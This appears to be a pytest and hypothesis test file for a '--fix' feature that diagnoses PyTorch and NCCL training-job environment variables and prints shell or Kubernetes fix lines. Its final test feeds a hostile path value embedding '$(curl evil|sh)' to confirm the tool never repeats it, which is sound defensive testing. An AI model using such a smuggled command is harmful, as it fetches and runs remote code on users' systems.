"""`--fix`: what it prints mends what it was printed for, and repeats nothing that could be harmful."""

from __future__ import annotations

import os
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.doctor.examinations import examined, wrong

from rankandfile.doctor import lines
from rankandfile.model.settings import Finding

BAD = (
    "TORCH_FR_BUFFER_SIZE=1048576\nTORCH_NCCL_DUMP_ON_TIMEOUT=0\nTORCH_FR_DUMP_TEMP_FILE=/scratch/fr_\n"
    "NCCL_TIMEOUT=3600\nCUDA_LAUNCH_BLOCKING=1\nTORCH_NCCL_ENABLE_MONITORING=0\nSLURM_JOB_ID=812345\n"
    "NCCL_DEBUG_FILE=/logs/nccl\nTORCH_NCCL_BLOCKING_WAIT=1\nHOME=/home/me\nSLURM_SUBMIT_DIR=/home/me/job\n"
)


@pytest.mark.parametrize("torch", ["2.4", "2.6", "2.9", "2.10", "2.13"])
def test_a_shell_that_took_the_fixes_has_nothing_to_mend(torch: str) -> None:
    before = dict(line.split("=", 1) for line in BAD.split())
    fixes = lines(examined(BAD, torch=torch).findings, "slurm")
    done = subprocess.run(
        ["/bin/bash", "-c", "mkdir() { :; }\n" + "\n".join(fixes) + "\nenv -0"],
        env={**before, "PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    after = examined(done.stdout, torch=torch)
    assert [finding.says for finding in wrong(after)] == []
    assert after.diagnosable == "yes"


def test_a_manifest_gets_entries_of_its_env_list() -> None:
    pod = (
        "kind: Pod\nspec:\n  volumes: [{name: d, nfs: {server: s, path: /x}}]\n  containers:\n  - name: main\n"
        "    volumeMounts: [{name: d, mountPath: /data}]\n    args: [torchrun, train.py]\n"
        "    env: [{name: NCCL_TIMEOUT, value: '1'}]\n"
    )
    printed = lines(examined(pod, "pod.yaml", torch="2.6").findings, "kubernetes")
    assert printed[:2] == [
        "- name: POD_UID  # before the entries that use it",
        "  valueFrom: {fieldRef: {fieldPath: metadata.uid}}",
    ]
    assert "# remove NCCL_TIMEOUT" in printed
    at = printed.index("- name: TORCH_NCCL_DEBUG_INFO_TEMP_FILE")
    assert printed[at + 1] == '  value: "/data/hangs/$(POD_UID)/nccl_trace_rank_"'


@given(st.text(max_size=60), st.sampled_from(["shell", "slurm"]))
def test_no_value_gets_into_a_shell_but_as_a_value(value: str, launcher: str) -> None:
    finding = Finding(severity="missing", check="x", says="x", exports={"TORCH_FR_DUMP_TEMP_FILE": value})
    for line in lines([finding], "slurm" if launcher == "slurm" else "shell"):
        assert "\n" not in line
        inside = line.replace("${TORCH_FR_DUMP_TEMP_FILE%/*}", "").replace("$(date +%Y%m%d-%H%M%S)", "")
        if not line.startswith("#"):
            assert not set(inside) & set("`;|&()<>\\'!\t"), line
            assert inside.count('"') == 2
        assert "$(" not in inside or line.startswith("#")


def test_a_hostile_path_is_not_repeated() -> None:
    bad = 'TORCH_FR_DUMP_TEMP_FILE=/scratch/fr$(curl evil|sh)".json\n'
    printed = "\n".join(lines(examined(bad).findings, "shell"))
    assert "curl" not in printed
